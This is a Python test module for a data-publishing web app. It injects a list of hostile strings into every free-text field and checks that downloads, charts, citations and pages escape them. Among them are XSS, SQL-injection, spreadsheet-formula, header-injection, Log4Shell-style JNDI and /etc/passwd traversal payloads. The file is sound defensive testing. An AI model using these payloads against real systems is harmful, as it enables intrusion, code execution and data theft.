"""Every text of a snapshot may be hostile: wherever it is shown or handed out, it stays a text."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from msgspec.structs import replace
from openpyxl import load_workbook
from starlette.applications import Starlette
from starlette.testclient import TestClient

from repression import site
from repression.questions import live
from repression.questions.question import all_questions, published_questions
from repression.questions.selection import Selection
from repression.snapshots.catalog import read_catalog
from repression.snapshots.descriptor import Source
from repression.snapshots.formula_escape import unescape_formulas
from repression.snapshots.issues import ValidationError
from repression.snapshots.schema import Field, datasets_of, fields_on
from repression.snapshots.writer import write_snapshot, writer_lock
from repression.web.html_writer import page_content
from repression.web.routes import EXCEPTION_HANDLERS, MIDDLEWARE, ROUTES
from tests.conftest import DATA
from tests.support.app_tests import parts_of
from tests.support.registers import widened
from tests.ui.test_pages import run

pytestmark = pytest.mark.slow

DAY = date(2026, 11, 30)
# An element that no page of ours has: where a parser finds it, a text became HTML.
MARK = "x-hostile"
HOSTILE = (
    f"<{MARK} onmouseover=alert(1)>",
    f"\"'><{MARK}>&lt{MARK}&gt",
    f"</script></style></title></textarea><{MARK}>",
    "'; DROP TABLE people_rows; --",
    "$1 ? :name $name getvariable('shown')",
    '=HYPERLINK("https://evil.example","see")',
    "+7 (29) 1",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "x;=1+1;y",
    'x\t"=1+1"\n@y',
    "\nSet-Cookie: a=b\n\n<html>",
    "a\nER  - \nTY  - EVIL",
    "}\n@evil{a, title = {b}",
    "![see](https://evil.example/x.png) [see](https://evil.example) $x^2$ :red[x]",
    "{people} {0.__class__.__init__.__globals__} %s %(a)s ${jndi:ldap://evil.example}",
    "..\\..\\..//etc/passwd\u2044",
    "Ж" * 5_000,
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")
PLACEHOLDER = re.compile(r"-( ;.*)?", re.DOTALL)  # for "no address": a minus with nothing behind it runs nothing
# Between them they show every free text there is.
PAGES = ("organisations.py", "defenders.py", "register.py", "method.py")


def is_free(field: Field) -> bool:
    return field.type == "string" and not field.enum and not field.pattern


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder in which every text that is free is hostile, that of the descriptors too."""
    root = Path(shutil.copytree(DATA, tmp_path_factory.mktemp("hostile") / "data"))
    catalog = read_catalog(root)
    source = Source(HOSTILE[0], f"https://example.org/?{HOSTILE[1]}".replace(" ", "%20"), HOSTILE[1], HOSTILE[2])
    with writer_lock(root):
        for dataset in datasets_of(catalog.package):
            fields = fields_on(catalog.package, dataset, DAY)
            last = catalog.on(dataset, DAY)
            assert last
            with last.path.open(encoding="utf-8", newline="") as file:
                rows = widened(list(csv.reader(file))[1:], fields)
            worst = [
                [text if is_free(field) else cell for field, cell in zip(fields, rows[number], strict=True)]
                for number, text in enumerate(HOSTILE)
                if number < len(rows)
            ]
            new = replace(last.descriptor, date=DAY, accessed=DAY, source=source, notes=HOSTILE, taken_in_by=HOSTILE[0])
            write_snapshot(root, new, fields, [*worst, *rows[len(worst) :]])
    assert not read_catalog(root).issues
    return root


@pytest.fixture(scope="module", autouse=True)
def served(hostile_data: Path) -> Iterator[None]:
    """The running process's warehouse is that of the hostile data."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("REPRESSION_DATA", str(hostile_data))
        live.reset()
        yield
        live.reset()


@pytest.fixture(scope="module")
def client() -> Iterator[TestClient]:
    app = Starlette(routes=ROUTES, middleware=MIDDLEWARE, exception_handlers=EXCEPTION_HANDLERS)
    with TestClient(app) as client:
        yield client


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def harm(page: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements of a page that are a hostile text, or have a script in an attribute."""
    reader = _Tags()
    reader.feed(page)
    reader.close()
    return [
        (tag, attributes)
        for tag, attributes in reader.found
        if tag == MARK
        or any(name.startswith("on") for name in attributes)
        or (tag == "a" and (attributes.get("href") or "").lower().startswith(("javascript:", "data:")))
    ]


def test_no_cell_of_a_csv_runs_and_none_is_lost(client: TestClient) -> None:
    for name in published_questions():
        answer = client.get(f"/data/questions/{name}.csv")
        assert answer.status_code == 200, name
        for separator in ",;\t":
            for row in csv.reader(io.StringIO(answer.text, newline=""), delimiter=separator):
                for cell in row:
                    number = NUMBER.fullmatch(cell.partition(",")[0])
                    assert not cell.startswith(FORMULA) or number or PLACEHOLDER.fullmatch(cell), (name, cell)
    rows = list(csv.DictReader(io.StringIO(client.get("/data/organisations.csv").text, newline="")))
    names = {row["name"] for row in rows}
    assert set(HOSTILE) <= {unescape_formulas(name) for name in names}


@pytest.mark.parametrize("dataset", ["organisations", "defenders", "events", "facilities", "indicators"])
def test_workbook_and_json_hold_the_texts_and_no_formula(client: TestClient, dataset: str) -> None:
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(client.get(f"/data/{dataset}.xlsx").content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    rows = json.loads(client.get(f"/data/{dataset}.json").content)["rows"]
    texts = {text for row in rows for text in row.values() if isinstance(text, str)}
    assert set(HOSTILE[: len(rows)]) <= texts
    with zipfile.ZipFile(io.BytesIO(client.get(f"/data/{dataset}.zip").content)) as archive:
        assert all(re.fullmatch(r"[\w.-]+", name) for name in archive.namelist())


def test_no_picture_and_no_piece_is_more_than_it_says(client: TestClient) -> None:
    drawn = [name for name, question in all_questions().items() if question.has_chart]
    for name in drawn:
        for path in (f"/picture/{name}.svg", f"/embed/{name}.html"):
            answer = client.get(path)
            assert answer.status_code in (200, 404), path
            if answer.status_code == 200:
                assert not harm(answer.text), path
    assert not harm(client.get("/files?snapshot=2026-11-30&lang=en").text)


def test_a_citation_is_one_whatever_its_titles_say(client: TestClient) -> None:
    for name in ("named_organisations", "sentence_lengths", "published_counts"):
        bib, ris = (client.get(f"/cite/{name}.{ending}").text for ending in ("bib", "ris"))
        assert len(re.findall(r"^@", bib, re.MULTILINE)) == 1
        assert len(re.findall(r"^TY  - ", ris, re.MULTILINE)) == len(re.findall(r"^ER  - ", ris, re.MULTILINE)) == 1


def test_a_hostile_name_can_be_filtered_by_and_tells_on_no_header(client: TestClient) -> None:
    for text in HOSTILE:
        answer = client.get("/data/people.csv", params={"facility": text, "status": "any"})
        assert answer.status_code == (200 if len(text) < 1_000 else 414), text
        assert "set-cookie" not in answer.headers
        if answer.status_code == 200:
            assert re.fullmatch(r'attachment; filename="[\w.-]+"', answer.headers["content-disposition"])
            assert len(answer.text.splitlines()) >= 2


@pytest.mark.parametrize("file", PAGES)
def test_no_page_takes_a_text_for_html_or_markdown(file: str) -> None:
    test = run(file, snapshot=DAY.isoformat())
    assert not test.exception
    for part in parts_of(test):
        assert not harm(part)
    assert not [each for each in test.markdown if each.allow_html]
    for each in (*test.markdown, *test.caption, *test.table, *test.info, *test.warning, *test.error):
        assert "evil.example" not in str(each.proto), each


@pytest.mark.parametrize("file", PAGES)
def test_no_plain_page_takes_a_text_for_html(file: str) -> None:
    page = next(each for each in site.PAGES if each.file == file)
    shown = str(page_content(live.current(), page, Selection(DAY), "https://figures.example"))
    assert not harm(shown)
    # The register's columns are closed sets, but for the names of facilities.
    assert f"&lt;{MARK}" in shown or file == "register.py"


@pytest.mark.parametrize(
    ("column", "text"),
    [
        ("source_url", "javascript:alert(1)"),
        ("source_url", "https://example.org/ onmouseover=alert(1)"),
        ("kind", f"<{MARK}>"),
        ("date", "2022-09-06'; DROP TABLE people_rows"),
        ("name", "\u202egnp.exe\u2066"),
        ("name", f"&lt;{MARK}&gt;"),
    ],
)
def test_what_is_no_value_of_a_column_is_refused_by_name(data_copy: Path, column: str, text: str) -> None:
    catalog = read_catalog(data_copy)
    last = catalog.on("organisations", DAY)
    assert last
    fields = fields_on(catalog.package, "organisations", DAY)
    with last.path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))[1:]
    rows[0] = [text if field.name == column else cell for field, cell in zip(fields, rows[0], strict=True)]
    with pytest.raises(ValidationError, match=f"column {column}: "), writer_lock(data_copy):
        write_snapshot(data_copy, replace(last.descriptor, date=DAY), fields, rows)
